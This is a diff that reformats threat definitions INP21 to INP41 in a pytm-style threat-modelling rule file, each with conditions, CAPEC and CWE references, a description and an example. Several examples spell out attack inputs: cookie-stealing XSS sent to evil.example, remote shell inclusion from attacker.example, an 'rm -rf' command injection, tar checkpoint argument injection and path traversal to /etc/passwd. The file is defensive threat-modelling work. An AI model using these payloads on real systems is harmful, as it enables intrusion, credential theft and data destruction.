@@ -5,13 +5,12 @@
 // As in pytm, this also fires on servers that do not parse XML at all
 // (usesXMLParser false); the condition is kept literally.
 threat INP21 "DTD Injection" {
-  targets    = [Server]
-  severity   = Medium
+  targets = [Server]
+  severity = Medium
   likelihood = Medium
-  when = not target.usesXMLParser
-         or not target.controls.disablesDTD
+  when = not target.usesXMLParser or not target.controls.disablesDTD
   capec = [228]
-  cwe   = [829]
+  cwe = [829]
   details = """
     A Document Type Definition tells an XML parser which elements and
     entities a document may use, and many parsers honour a DTD supplied
@@ -42,13 +41,12 @@ threat INP21 "DTD Injection" {
 // As in pytm, this also fires on servers that do not parse XML at all
 // (usesXMLParser false); the condition is kept literally.
 threat INP22 "XML Attribute Blowup" {
-  targets    = [Server]
-  severity   = High
+  targets = [Server]
+  severity = High
   likelihood = High
-  when = not target.usesXMLParser
-         or not target.controls.disablesDTD
+  when = not target.usesXMLParser or not target.controls.disablesDTD
   capec = [229]
-  cwe   = [770]
+  cwe = [770]
   details = """
     Some XML parsers store the attributes of an element in a structure where
     adding each new attribute costs time proportional to the attributes
@@ -76,13 +74,13 @@ threat INP22 "XML Attribute Blowup" {
 }
 
 threat INP23 "File Content Injection" {
-  targets    = [Process]
-  severity   = VeryHigh
+  targets = [Process]
+  severity = VeryHigh
   likelihood = High
   when = not target.controls.hasAccessControl
          and (not target.controls.sanitizesInput or not target.controls.validatesInput)
   capec = [23]
-  cwe   = [20]
+  cwe = [20]
   details = """
     The process opens and handles files that come from outside, such as
     uploads, mail attachments, documents or media. An attacker crafts a file
@@ -114,13 +112,12 @@ threat INP23 "File Content Injection" {
 }
 
 threat INP24 "Filter Failure through Buffer Overflow" {
-  targets    = [Process, Lambda]
-  severity   = High
+  targets = [Process, Lambda]
+  severity = High
   likelihood = High
-  when = not target.controls.checksInputBounds
-         or not target.controls.validatesInput
+  when = not target.controls.checksInputBounds or not target.controls.validatesInput
   capec = [24]
-  cwe   = [120, 680, 20]
+  cwe = [120, 680, 20]
   details = """
     Security filters, such as input sanitisers, argument scrubbers or
     logging hooks, are code too, and they can break on input they did not
@@ -152,11 +149,10 @@ threat INP24 "Filter Failure through Buffer Overflow" {
 
 // pytm lists CAPEC-240 twice in this threat's references; it is given once.
 threat INP25 "Resource Injection" {
-  targets    = [Process, Lambda]
-  severity   = High
+  targets = [Process, Lambda]
+  severity = High
   likelihood = High
-  when = not target.controls.validatesInput
-         or not target.controls.sanitizesInput
+  when = not target.controls.validatesInput or not target.controls.sanitizesInput
   capec = [240]
   details = """
     The code builds the identifier of a resource, such as a file path, a
@@ -178,19 +174,16 @@ threat INP25 "Resource Injection" {
     `controls.sanitizesInput` once input is both checked and cleaned.
     """
   example = "A report download handler opens reports/ followed by the name query parameter; a request with name=../../config/database.yml returns the database credentials."
-  references = [
-    "https://capec.mitre.org/data/definitions/240.html",
-  ]
+  references = ["https://capec.mitre.org/data/definitions/240.html"]
 }
 
 threat INP26 "Code Injection" {
-  targets    = [Process, Lambda]
-  severity   = High
+  targets = [Process, Lambda]
+  severity = High
   likelihood = High
-  when = not target.controls.validatesInput
-         or not target.controls.sanitizesInput
+  when = not target.controls.validatesInput or not target.controls.sanitizesInput
   capec = [242]
-  cwe   = [94]
+  cwe = [94]
   details = """
     Code injection happens when data from a caller ends up being evaluated
     as program code by the running process or function, for example through
@@ -220,10 +213,9 @@ threat INP26 "Code Injection" {
 }
 
 threat INP27 "XSS Targeting HTML Attributes" {
-  targets    = [Process]
-  severity   = Medium
-  when = not target.controls.validatesInput
-         or not target.controls.sanitizesInput
+  targets = [Process]
+  severity = Medium
+  when = not target.controls.validatesInput or not target.controls.sanitizesInput
   capec = [243]
   details = """
     Many XSS defences look for script tags but pay less attention to values
@@ -246,20 +238,18 @@ threat INP27 "XSS Targeting HTML Attributes" {
     place.
     """
   example = "A profile page writes the user's website into an anchor's title attribute without encoding quotes; an attacker sets it to x\" onmouseover=\"fetch('//evil.example/?c='+document.cookie) and steals the cookie of anyone who hovers over the link."
-  references = [
-    "https://capec.mitre.org/data/definitions/243.html",
-  ]
+  references = ["https://capec.mitre.org/data/definitions/243.html"]
 }
 
 threat INP28 "XSS Targeting URI Placeholders" {
-  targets    = [Server, Process]
-  severity   = High
+  targets = [Server, Process]
+  severity = High
   likelihood = High
   when = not target.controls.validatesInput
          or not target.controls.sanitizesInput
          or not target.controls.encodesOutput
   capec = [244]
-  cwe   = [83]
+  cwe = [83]
   details = """
     Browsers treat some URI schemes, such as javascript: and data:, as
     executable content rather than as addresses. An attacker places such a
@@ -288,8 +278,8 @@ threat INP28 "XSS Targeting URI Placeholders" {
 }
 
 threat INP29 "XSS Using Doubled Characters" {
-  targets    = [Server, Process]
-  severity   = Medium
+  targets = [Server, Process]
+  severity = Medium
   likelihood = Medium
   when = not target.controls.validatesInput
          or not target.controls.sanitizesInput
@@ -315,19 +305,16 @@ threat INP29 "XSS Using Doubled Characters" {
     are done.
     """
   example = "A search page removes the string <script from queries; an attacker sends %3C%3Cscript%3E... in a link, the filter leaves it alone and the results page renders a working script tag."
-  references = [
-    "https://capec.mitre.org/data/definitions/245.html",
-  ]
+  references = ["https://capec.mitre.org/data/definitions/245.html"]
 }
 
 threat INP30 "XSS Using Invalid Characters" {
-  targets    = [Process]
-  severity   = Medium
+  targets = [Process]
+  severity = Medium
   likelihood = Medium
-  when = not target.controls.validatesInput
-         or not target.controls.sanitizesInput
+  when = not target.controls.validatesInput or not target.controls.sanitizesInput
   capec = [247]
-  cwe   = [86]
+  cwe = [86]
   details = """
     An attacker inserts characters that are not valid in identifiers, such
     as a null byte, tab, carriage return or line feed, into the middle of a
@@ -355,8 +342,8 @@ threat INP30 "XSS Using Invalid Characters" {
 }
 
 threat INP31 "Command Injection" {
-  targets    = [Process]
-  severity   = High
+  targets = [Process]
+  severity = High
   likelihood = Medium
   when = not target.controls.usesParameterizedInput
          and (not target.controls.validatesInput or not target.controls.sanitizesInput)
@@ -382,14 +369,12 @@ threat INP31 "Command Injection" {
     place.
     """
   example = "An image service runs convert with the uploaded file name pasted into a shell command; a file named x.png; rm -rf /var/www deletes the web root."
-  references = [
-    "https://capec.mitre.org/data/definitions/248.html",
-  ]
+  references = ["https://capec.mitre.org/data/definitions/248.html"]
 }
 
 threat INP32 "XML Injection" {
-  targets    = [Process]
-  severity   = High
+  targets = [Process]
+  severity = High
   likelihood = High
   when = not target.controls.validatesInput
          or not target.controls.sanitizesInput
@@ -415,17 +400,14 @@ threat INP32 "XML Injection" {
     nothing about queries or document structure.
     """
   example = "A login check runs the XPath //user[name='NAME' and pass='PASS'] with the form fields substituted in; entering ' or '1'='1 as both values returns the first user and logs the attacker in."
-  references = [
-    "https://capec.mitre.org/data/definitions/250.html",
-  ]
+  references = ["https://capec.mitre.org/data/definitions/250.html"]
 }
 
 threat INP33 "Remote Code Inclusion" {
-  targets    = [Process]
-  severity   = High
+  targets = [Process]
+  severity = High
   likelihood = Medium
-  when = not target.controls.validatesInput
-         or not target.controls.sanitizesInput
+  when = not target.controls.validatesInput or not target.controls.sanitizesInput
   capec = [253]
   details = """
     Some applications decide at run time which code file to load, based on
@@ -446,14 +428,12 @@ threat INP33 "Remote Code Inclusion" {
     application servers so they cannot fetch arbitrary URLs.
     """
   example = "A PHP site loads page content with include($_GET['page']); requesting ?page=https://attacker.example/shell.txt makes it run the attacker's web shell."
-  references = [
-    "https://capec.mitre.org/data/definitions/253.html",
-  ]
+  references = ["https://capec.mitre.org/data/definitions/253.html"]
 }
 
 threat INP34 "SOAP Array Overflow" {
-  targets    = [Server]
-  severity   = High
+  targets = [Server]
+  severity = High
   likelihood = Medium
   when = not target.controls.checksInputBounds
   capec = [256]
@@ -476,17 +456,14 @@ threat INP34 "SOAP Array Overflow" {
     enforces these bounds.
     """
   example = "An attacker sends a SOAP request whose soapenc:arrayType says int[2] but which contains 50,000 int elements, overflowing the two-element buffer in a legacy C++ SOAP service."
-  references = [
-    "https://capec.mitre.org/data/definitions/256.html",
-  ]
+  references = ["https://capec.mitre.org/data/definitions/256.html"]
 }
 
 threat INP35 "Leverage Alternate Encoding" {
-  targets    = [Process]
-  severity   = High
+  targets = [Process]
+  severity = High
   likelihood = High
-  when = not target.controls.validatesInput
-         or not target.controls.sanitizesInput
+  when = not target.controls.validatesInput or not target.controls.sanitizesInput
   capec = [267]
   details = """
     The same character can be written many ways: URL percent-encoding,
@@ -508,17 +485,14 @@ threat INP35 "Leverage Alternate Encoding" {
     when canonicalisation and validation are both in place.
     """
   example = "A file server rejects paths containing ../ but decodes them afterwards, so a request for %252e%252e%252fetc%252fpasswd passes the check and, after double decoding, reads /etc/passwd."
-  references = [
-    "https://capec.mitre.org/data/definitions/267.html",
-  ]
+  references = ["https://capec.mitre.org/data/definitions/267.html"]
 }
 
 threat INP36 "HTTP Response Smuggling" {
-  targets    = [Server]
-  severity   = Medium
+  targets = [Server]
+  severity = Medium
   likelihood = Medium
-  when = not target.controls.implementsStrictHTTPValidation
-         and not target.controls.encodesHeaders
+  when = not target.controls.implementsStrictHTTPValidation and not target.controls.encodesHeaders
   capec = [273]
   details = """
     Proxies, caches and browsers do not always agree on where one HTTP
@@ -541,17 +515,14 @@ threat INP36 "HTTP Response Smuggling" {
     and prefer HTTP/2 end to end where possible.
     """
   example = "A redirect endpoint copies the next parameter into the Location header; an attacker injects a line break and a second complete response, and the company's caching proxy stores the forged page under the URL of a popular page."
-  references = [
-    "https://capec.mitre.org/data/definitions/273.html",
-  ]
+  references = ["https://capec.mitre.org/data/definitions/273.html"]
 }
 
 threat INP37 "HTTP Request Smuggling" {
-  targets    = [Server]
-  severity   = High
+  targets = [Server]
+  severity = High
   likelihood = Medium
-  when = not target.controls.implementsStrictHTTPValidation
-         and not target.controls.encodesHeaders
+  when = not target.controls.implementsStrictHTTPValidation and not target.controls.encodesHeaders
   capec = [33]
   details = """
     When a request passes through a front-end proxy, load balancer or web
@@ -574,14 +545,12 @@ threat INP37 "HTTP Request Smuggling" {
     Disable back-end connection reuse if the components cannot be aligned.
     """
   example = "An attacker sends a POST with Content-Length: 44 and Transfer-Encoding: chunked; the load balancer honours the length and the application server the chunking, so a hidden GET /admin request slips past the balancer's path rules."
-  references = [
-    "https://capec.mitre.org/data/definitions/33.html",
-  ]
+  references = ["https://capec.mitre.org/data/definitions/33.html"]
 }
 
 threat INP38 "DOM-Based XSS" {
-  targets    = [Process]
-  severity   = VeryHigh
+  targets = [Process]
+  severity = VeryHigh
   likelihood = High
   when = target.allowsClientSideScripting
          and (not target.controls.sanitizesInput or not target.controls.validatesInput)
@@ -607,14 +576,12 @@ threat INP38 "DOM-Based XSS" {
     client code does both.
     """
   example = "A single-page app shows a welcome banner by assigning location.hash to an element's innerHTML; a link ending in #<img src=x onerror=stealCookies()> runs the attacker's code for whoever opens it."
-  references = [
-    "https://capec.mitre.org/data/definitions/588.html",
-  ]
+  references = ["https://capec.mitre.org/data/definitions/588.html"]
 }
 
 threat INP39 "Reflected XSS" {
-  targets    = [Process]
-  severity   = VeryHigh
+  targets = [Process]
+  severity = VeryHigh
   likelihood = High
   when = target.allowsClientSideScripting
          and (not target.controls.sanitizesInput or not target.controls.validatesInput)
@@ -640,14 +607,12 @@ threat INP39 "Reflected XSS" {
     are in place.
     """
   example = "An error page prints the missing item's name from the URL, so an attacker emails customers a link to /notfound?item=<script src=//evil.example/k.js></script> that runs a keylogger on the shop's domain."
-  references = [
-    "https://capec.mitre.org/data/definitions/591.html",
-  ]
+  references = ["https://capec.mitre.org/data/definitions/591.html"]
 }
 
 threat INP40 "Stored XSS" {
-  targets    = [Process]
-  severity   = VeryHigh
+  targets = [Process]
+  severity = VeryHigh
   likelihood = High
   when = target.allowsClientSideScripting
          and (not target.controls.sanitizesInput or not target.controls.validatesInput)
@@ -672,17 +637,14 @@ threat INP40 "Stored XSS" {
     enforced.
     """
   example = "An attacker registers with a display name containing a script; when a support agent opens the user list in the admin console, the script sends the agent's session token to the attacker."
-  references = [
-    "https://capec.mitre.org/data/definitions/592.html",
-  ]
+  references = ["https://capec.mitre.org/data/definitions/592.html"]
 }
 
 threat INP41 "Argument Injection" {
-  targets    = [Process]
-  severity   = High
+  targets = [Process]
+  severity = High
   likelihood = High
-  when = not target.controls.validatesInput
-         or not target.controls.sanitizesInput
+  when = not target.controls.validatesInput or not target.controls.sanitizesInput
   capec = [6]
   details = """
     The process passes caller-supplied values as arguments to another
@@ -704,7 +666,5 @@ threat INP41 "Argument Injection" {
     `controls.sanitizesInput` once both are in place.
     """
   example = "A backup endpoint passes user-chosen file names straight to tar; submitting the names --checkpoint=1 and --checkpoint-action=exec=sh x.sh makes tar run the attacker's script."
-  references = [
-    "https://capec.mitre.org/data/definitions/6.html",
-  ]
+  references = ["https://capec.mitre.org/data/definitions/6.html"]
 }
